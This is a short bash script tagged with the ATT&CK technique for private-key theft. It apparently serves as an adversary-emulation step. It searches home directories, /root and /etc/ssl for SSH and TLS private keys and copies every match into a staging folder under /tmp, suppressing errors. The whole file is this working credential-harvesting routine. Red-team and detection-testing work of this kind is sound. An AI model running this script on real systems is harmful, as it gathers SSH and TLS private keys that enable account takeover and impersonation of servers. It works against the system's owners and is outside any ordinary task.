#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1552.004 Private Keys: finds SSH and TLS keys and copies them.
mkdir -p /tmp/keys
find /home /root /etc/ssl \( -name "id_rsa" -o -name "*.pem" -o -name "*.key" \) 2>/dev/null > /tmp/keys/list.txt
while read -r file; do cp "$file" /tmp/keys/ 2>/dev/null; done < /tmp/keys/list.txt
